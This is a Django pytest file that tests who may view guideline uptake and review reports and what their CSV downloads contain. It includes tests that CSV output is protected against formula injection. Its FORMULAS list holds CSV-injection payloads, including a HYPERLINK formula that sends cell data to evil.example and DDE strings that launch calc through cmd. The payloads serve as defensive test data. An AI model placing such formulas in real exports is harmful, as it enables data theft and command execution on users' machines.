"""Who may see the uptake and review reports and their CSV downloads, and what the CSVs hold.

The CSV contents are checked by calling the views directly as well as through the
site, so that what a spreadsheet would receive is tested on its own.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import quote

import pytest
from django.http import Http404
from django.test import RequestFactory
from django.urls import reverse

from core.csvexport import safe_cell
from guidelines import services, views
from guidelines.models import AdoptionStatus, GuidelinePage
from members import roles
from members.models import ApprovalStatus
from members.tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

# (URL name, arguments after the guideline's slug)
GUIDELINE_REPORTS = [
    ("guidelines:uptake", ()),
    ("guidelines:uptake_csv", ("organisations",)),
    ("guidelines:uptake_csv", ("staff-groups",)),
    ("guidelines:uptake_csv", ("adoption",)),
    ("guidelines:uptake_csv", ("timeline",)),
]
INDEX_REPORTS = [
    "guidelines:uptake_overview",
    "guidelines:uptake_overview_csv",
    "guidelines:review_due",
    "guidelines:review_due_csv",
]


def report_urls(guideline) -> list[str]:
    return [reverse(name, args=[guideline.slug, *args]) for name, args in GUIDELINE_REPORTS] + [
        reverse(name) for name in INDEX_REPORTS
    ]


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def download(user, view, page, *args) -> list[list[str]]:
    """The CSV a view returns to `user`, called directly rather than through the page tree."""
    request = RequestFactory().get("/")
    request.user = user
    response = view(request, page, *args)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return rows(response)


@pytest.mark.parametrize(
    "role", [roles.COORDINATORS, roles.EXECUTIVE_COMMITTEE], ids=["coordinator", "executive"]
)
def test_coordinators_and_executives_see_every_report(client, guideline, role):
    client.force_login(UserFactory(roles=[role]))
    for url in report_urls(guideline):
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith("/csv/"):
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            assert response["Content-Disposition"].startswith('attachment; filename="')
            assert "no-store" in response["Cache-Control"]
            assert len(rows(response)) >= 1


MEMBERS_WITHOUT_ACCESS = {
    "member": lambda: UserFactory(),
    "clinical steering group": lambda: UserFactory(roles=[roles.CLINICAL_STEERING_GROUP]),
    "facilitator": lambda: UserFactory(roles=[roles.FACILITATORS]),
    "moderator": lambda: UserFactory(roles=[roles.MODERATORS]),
    "organisation lead": lambda: _lead(),
    "superuser who is not a coordinator": lambda: UserFactory(is_superuser=True, is_staff=True),
}


def _lead():
    organisation = OrganisationFactory()
    user = UserFactory(organisation=organisation)
    organisation.leads.add(user)
    return user


@pytest.mark.parametrize("make_user", MEMBERS_WITHOUT_ACCESS.values(), ids=MEMBERS_WITHOUT_ACCESS)
def test_other_members_get_404_as_for_a_missing_page(client, guideline, index, make_user):
    user = make_user()
    client.force_login(user)
    for url in report_urls(guideline):
        assert client.get(url).status_code == 404, url
    assert client.get(guideline.url + "no-such-page/").status_code == 404
    # The CSV views themselves refuse, however they are reached.
    request = RequestFactory().get("/")
    request.user = user
    for view, page, args in [
        (views.uptake_csv, guideline, ("organisations",)),
        (views.uptake_csv, guideline, ("timeline",)),
        (views.uptake_overview_csv, index, ()),
        (views.review_due_csv, index, ()),
    ]:
        with pytest.raises(Http404):
            view(request, page, *args)


def test_visitors_are_sent_to_log_in(client, guideline):
    for url in report_urls(guideline):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"] == f"{reverse('members:login')}?next={quote(url)}"


def test_download_links_on_the_reports_work(coordinator_client, guideline):
    pages = [
        reverse("guidelines:uptake", args=[guideline.slug]),
        reverse("guidelines:uptake_overview"),
        reverse("guidelines:review_due"),
    ]
    links = [
        link
        for url in pages
        for link in re.findall(r'href="([^"]+/csv/)"', coordinator_client.get(url).content.decode())
    ]
    assert len(links) == 6
    for link in links:
        response = coordinator_client.get(link)
        assert response.status_code == 200, link
        assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_coordinators_who_are_not_approved_are_refused(client, guideline):
    client.force_login(
        UserFactory(roles=[roles.COORDINATORS], approval_status=ApprovalStatus.PENDING)
    )
    for url in report_urls(guideline):
        assert client.get(url).status_code in (403, 404), url


@pytest.mark.parametrize(
    "table", ["secrets", "users", "organisation", "timeline2", "ADOPTION", "staff_groups"]
)
def test_unknown_csv_table_is_404(coordinator, coordinator_client, guideline, table):
    url = reverse("guidelines:uptake_csv", args=[guideline.slug, table])
    assert coordinator_client.get(url).status_code == 404
    request = RequestFactory().get("/")
    request.user = coordinator
    with pytest.raises(Http404):
        views.uptake_csv(request, guideline, table)
    # The known tables answer the same coordinator.
    assert download(coordinator, views.uptake_csv, guideline, "timeline")[0][0] == "Date"


def test_reports_of_a_draft_are_not_found(coordinator_client, draft):
    page = GuidelinePage.objects.get(pk=draft.pk)
    for name, args in GUIDELINE_REPORTS:
        url = reverse(name, args=[page.slug, *args])
        assert coordinator_client.get(url).status_code == 404, url


# What the CSVs hold


@pytest.fixture
def hospice(db):
    return OrganisationFactory(name="Cedar Children's Hospice", is_nhs=False)


@pytest.fixture
def lead(hospice):
    user = UserFactory(full_name="Lee Lead", organisation=hospice)
    hospice.leads.add(user)
    return user


def test_organisations_csv_holds_each_organisation(coordinator, guideline, hospice, lead):
    services.acknowledge(lead, guideline, 1)
    UserFactory(organisation=hospice)
    services.record_adoption(
        lead, guideline, hospice, AdoptionStatus.NOT_ADOPTED, "No inpatient beds."
    )
    table = download(coordinator, views.uptake_csv, guideline, "organisations")
    assert table[0][:3] == ["Organisation", "Network role", "NHS"]
    by_name = {row[0]: row for row in table[1:]}
    assert by_name["Cedar Children's Hospice"][1:8] == [
        "Spoke",
        "no",
        "2",
        "1",
        "50",
        "Not adopted",
        "No inpatient beds.",
    ]


def test_adoption_csv_holds_the_shares(coordinator, guideline, hospice, lead):
    services.record_adoption(lead, guideline, hospice, AdoptionStatus.ADOPTED)
    table = download(coordinator, views.uptake_csv, guideline, "adoption")
    # Two organisations: the hospice, and the NHS one the coordinator works for.
    assert table == [
        ["Organisations", "Total", "Adopted", "Per cent"],
        ["All organisations", "2", "1", "50"],
        ["Hub", "0", "0", ""],
        ["Spoke", "2", "1", "50"],
        ["Associate", "0", "0", ""],
        ["NHS", "1", "0", "0"],
        ["Non-NHS", "1", "1", "100"],
    ]


def test_overview_csv_has_a_row_per_live_guideline(coordinator, guideline, index):
    table = download(coordinator, views.uptake_overview_csv, index)
    assert table[0][:2] == ["Guideline", "Version"]
    assert [(row[0], row[1], row[5]) for row in table[1:]] == [(guideline.title, "1", "no")]


def test_timeline_csv_starts_at_the_endorsement(coordinator, guideline):
    table = download(coordinator, views.uptake_csv, guideline, "timeline")
    assert table[0] == [
        "Date",
        "Version in force",
        "Members who had read it",
        "Organisations adopted",
        "Events",
    ]
    assert table[1][1:] == ["1", "0", "0", "Version 1 endorsed"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_member_text_cannot_run_as_a_formula(coordinator, guideline, index, hospice, lead, formula):
    """An adoption reason, an organisation's name and an owner's name, each a formula."""
    services.record_adoption(lead, guideline, hospice, AdoptionStatus.NOT_ADOPTED, formula)
    OrganisationFactory(name=formula, slug="formula-organisation")
    owner = UserFactory(full_name=formula, email="owner@test.example")
    GuidelinePage.objects.filter(pk=guideline.pk).update(
        guideline_owner=owner, review_due="2000-01-01"
    )

    organisations = download(coordinator, views.uptake_csv, guideline, "organisations")
    [hospice_row] = [row for row in organisations if row[0] == "Cedar Children's Hospice"]
    assert hospice_row[7] == "'" + formula
    assert ["'" + formula] == [row[0] for row in organisations if row[0].endswith(formula)]

    review = download(coordinator, views.review_due_csv, index)
    assert review[1][1] == "'" + formula
    assert review[1][5] == "yes"

    for table in (organisations, review):
        assert formula_cells(table) == []


def formula_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @, other than plain numbers."""
    return [
        cell
        for row in table
        for cell in row
        if cell.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"-?\d+", cell)
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, ""),
        (True, "yes"),
        (False, "no"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
